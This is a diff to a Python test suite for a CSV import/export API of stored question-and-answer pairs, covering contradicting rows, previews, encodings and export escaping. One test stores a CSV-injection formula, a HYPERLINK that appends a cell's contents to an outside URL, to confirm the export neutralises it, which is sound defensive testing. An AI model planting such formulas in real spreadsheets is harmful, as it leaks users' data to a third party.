@@ -69,7 +69,7 @@ def test_retired_answers_are_not_exported(shared: Api) -> None:
     avee = creator.create_avee()
     kept, gone = (creator.add_answer(avee, f"Which {thing}?", "That.") for thing in ("glue", "wood"))
     creator.call("DELETE", f"/avees/{avee}/canonical-answers/{gone['id']}", 204)
-    exported = creator.call("GET", f"/avees/{avee}/canonical-answers/export").text
+    exported = creator.call("GET", f"/avees/{avee}/canonical-answers/export").text.removeprefix("\ufeff")
     assert [row["question_pattern"] for row in csv.DictReader(io.StringIO(exported))] == [kept["question_pattern"]]
     assert creator.call("GET", f"/avees/{avee}/canonical-answers/export?format=md").text == "## Which glue?\n\nThat.\n"
 
@@ -94,3 +94,75 @@ def test_only_the_owner_imports_and_exports(shared: Api) -> None:
     assert other.call("GET", f"/avees/{avee}/canonical-answers/export", 404)["code"] == "avee_not_found"
     send(shared, avee, CSV, expect=401)
     assert len(listed(creator, avee)) == 1
+
+
+TWO = "question,answer\nWhen do you feed?,In August.\nWhich glue?,The brown one.\nWhen do you  FEED,In May.\n"
+
+
+def test_a_question_with_two_answers_is_imported_when_one_is_chosen(shared: Api) -> None:
+    creator = shared.sign_up()
+    avee = creator.create_avee()
+    first = send(creator, avee, TWO)
+    assert (first["added"], first["wrong"], first["contradicting"]) == (1, 0, 1)
+    assert first["contradictions"] == [
+        {"question": "When do you feed?", "answers": [{"line": 2, "answer": "In August."}, {"line": 4, "answer": "In May."}]}
+    ]
+    assert set(listed(creator, avee)) == {"Which glue?"}
+    assert send(creator, avee, TWO, chosen=["2", "4"])["contradicting"] == 1  # type: ignore[arg-type]  # a field that is repeated
+    chosen = send(creator, avee, TWO, chosen="4")
+    assert (chosen["added"], chosen["known"], chosen["contradicting"]) == (1, 1, 0)
+    assert listed(creator, avee)["When do you  FEED"][0] == "In May."
+
+
+def test_a_row_that_contradicts_a_stored_answer_replaces_it_only_when_chosen(shared: Api) -> None:
+    creator = shared.sign_up()
+    avee = creator.create_avee()
+    creator.add_answer(avee, "Which glue?", "The brown one.")
+    file = "question,answer\nWhich glue,The white one.\n"
+    asked = send(creator, avee, file)
+    assert (asked["added"], asked["contradictions"][0]["answers"]) == (
+        0,
+        [{"line": None, "answer": "The brown one."}, {"line": 2, "answer": "The white one."}],
+    )
+    assert send(creator, avee, file, chosen="2")["added"] == 1
+    assert listed(creator, avee) == {"Which glue?": ("The white one.", "public")}
+
+
+def test_a_preview_stores_nothing_and_says_what_would_happen(shared: Api) -> None:
+    creator = shared.sign_up()
+    avee = creator.create_avee()
+    seen = send(creator, avee, CSV, preview="true")
+    assert (seen["is_preview"], seen["added"], seen["wrong"], seen["encoding"]) == (True, 2, 2, "utf-8")
+    assert seen["columns"] == ["question", "answer", "layer", "expires_at"]
+    assert seen["rows"][1] == {"line": 4, "question": "Which glue?", "answer": "The brown one."}
+    assert listed(creator, avee) == {}
+    done = send(creator, avee, CSV)
+    assert {name: done[name] for name in ("added", "known", "wrong")} == {name: seen[name] for name in ("added", "known", "wrong")}
+
+
+def test_an_unclear_encoding_and_unknown_columns_are_asked_about(shared: Api) -> None:
+    creator = shared.sign_up()
+    avee = creator.create_avee()
+    data = "Frage,Antwort\n胶水多久能干？,一天。\n".encode("gbk")  # noqa: RUF001
+    unclear = send(creator, avee, data, expect=422)
+    assert unclear["code"] == "unclear_encoding"
+    assert "胶水多久能干" in next(each["preview"] for each in unclear["fields"]["encodings"] if each["encoding"] == "gb18030")
+    unknown = send(creator, avee, data, expect=422, encoding="gb18030")
+    assert (unknown["code"], unknown["fields"]["columns"]) == ("unknown_columns", ["Frage", "Antwort"])
+    assert send(creator, avee, data, encoding="gb18030", question="Frage", answer="Antwort")["added"] == 1
+    assert listed(creator, avee) == {"胶水多久能干？": ("一天。", "public")}  # noqa: RUF001
+    assert send(creator, avee, data, expect=422, encoding="rot13")["code"] == "unreadable_file"
+
+
+def test_a_formula_that_an_asker_typed_is_text_in_a_spreadsheet_and_comes_back(shared: Api) -> None:
+    creator = shared.sign_up()
+    avee, elsewhere = creator.create_avee(), creator.create_avee()
+    formula = '=HYPERLINK("https://example.org/?"&A1,"Click")'
+    creator.add_answer(avee, formula, "+1 234, '=2 and -3")
+    creator.add_answer(avee, "'=quoted?", "@home")
+    exported = creator.call("GET", f"/avees/{avee}/canonical-answers/export").content
+    assert exported.startswith(b"\xef\xbb\xbf")
+    cells = [cell for row in csv.reader(io.StringIO(exported.decode("utf-8-sig"))) for cell in row]
+    assert not [cell for cell in cells if cell[:1] in "=+-@" and cell]
+    assert send(creator, elsewhere, exported)["added"] == 2
+    assert listed(creator, elsewhere) == listed(creator, avee)
